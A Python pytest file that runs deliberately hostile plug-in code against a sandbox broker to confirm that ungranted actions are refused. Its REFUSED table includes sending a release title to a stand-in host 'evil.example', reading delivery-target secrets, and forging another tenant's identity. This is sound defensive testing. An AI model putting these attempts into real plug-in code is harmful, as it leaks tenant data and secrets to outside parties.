"""A malicious plug-in in its process, with the real broker: the tenant's neighbours and ungranted things are safe."""

from copy import deepcopy
from pathlib import Path

import pytest

from shared.model.plugins.manifest import Permissions
from shared.plugins.broker.broker import Broker
from shared.plugins.sandbox.invocation import PluginFault
from shared.sdk.points import POINTS
from tests.contract.plugins.conftest import Run
from tests.fixtures.world import World

GRANTED = Permissions(documents=["releases"], hosts=["api.example.org"], actions=["create_task"], files=["read"])


@pytest.fixture
def world(tmp_path: Path) -> World:
    (tmp_path / "world").mkdir()
    found = World(tmp_path / "world")
    found.put("releases/theirs", {"id": "theirs", "tenantId": "elsewhere", "title": "Secret", "status": "draft"})
    return found


REFUSED = {
    "asks for another collection": "context.documents.find('deliveries')",
    "asks for secrets": "context.documents.get('deliveryTargetSecrets', 'target')",
    "asks for a path": "context.bridge.ask('documents.get', {'collection': 'releases/release/versions', 'id': 'x'})",
    "asks for another host": "context.web.get('https://evil.example/' + payload.release['title'])",
    "acts in a before hook": "context.actions.create_task('k', 't', 'x')",
    "posts in a before hook": "context.web.post('https://api.example.org/', b'x')",
    "acts without permission": "context.actions.deliver('k', 'release', 'target')",
    "writes a file without permission": "context.files.write('a', 'b', b'c', 'text/plain')",
    "asks for what there is not": "context.bridge.ask('store.delete', {'path': 'releases/release'})",
    "pretends to be another": "from dataclasses import replace\n    "
    "replace(context, plugin='other', tenant_id='elsewhere').actions.notify('k', 't', 'x')",
}


@pytest.mark.parametrize("deed", REFUSED.values(), ids=REFUSED)
def test_a_deed_is_refused_and_changes_nothing(run: Run, world: World, deed: str) -> None:
    before = deepcopy(world.store.documents)
    with pytest.raises(PluginFault, match=r"^(Refused|Failed): ") as fault:
        run(f"def handle(payload, context):\n    {deed}", _broker(world))
    assert fault.value.kind == "exception"
    assert world.store.documents == before


def test_another_tenants_document_is_not_there(run: Run, world: World) -> None:
    code = """
    def handle(payload, context):
        seen = [context.documents.get("releases", "theirs"), *context.documents.find("releases", limit=500)]
        return Answer((Finding("", ", ".join(str(each and each["id"]) for each in seen), "x"),))
    """
    assert run(code, _broker(world)).findings[0].message == "None, release"


def test_a_forged_tenant_in_the_arguments_is_ignored(run: Run, world: World) -> None:
    code = """
    def handle(payload, context):
        forged = {"collection": "releases", "id": "theirs", "tenantId": "elsewhere", "tenant_id": "elsewhere"}
        assert context.bridge.ask("documents.get", forged)[0] is None
        context.state.put("k", 1)
    """
    assert run(code, _broker(world)) is None
    (stored,) = (data for path, data in world.store.documents.items() if path.startswith("pluginState/"))
    assert (stored["tenantId"], stored["plugin"]) == ("tenant", "visitor")


def test_an_endless_log_ends(run: Run, world: World) -> None:
    broker = _broker(world)
    with pytest.raises(PluginFault):
        run("def handle(payload, context):\n    while True: context.log('x' * 1000)", broker, seconds=20)
    assert (len(broker.log), len(broker.log[0])) == (100, 500)


def test_an_action_in_a_run_has_one_effect(run: Run, world: World) -> None:
    from shared.sdk import AfterReleaseReady

    code = """
    def handle(payload, context):
        context.actions.create_task(context.run_id, "Look", "At this.", releaseId=payload.release_id)
    """
    for _ in range(2):
        after = {"point": "after.release.ready", "payload": AfterReleaseReady("release"), "run_id": "r"}
        run(code, _broker(world, "after.release.ready"), **after)
    (task,) = (data for path, data in world.store.documents.items() if path.startswith("tasks/"))
    assert (task["message"], task["plugin"], task["releaseId"]) == ("Look", "visitor", "release")


def _broker(world: World, point: str = "before.release.saved") -> Broker:
    return Broker(plugin="visitor", tenant_id="tenant", granted=GRANTED, point=POINTS[point], adapters=world.adapters)
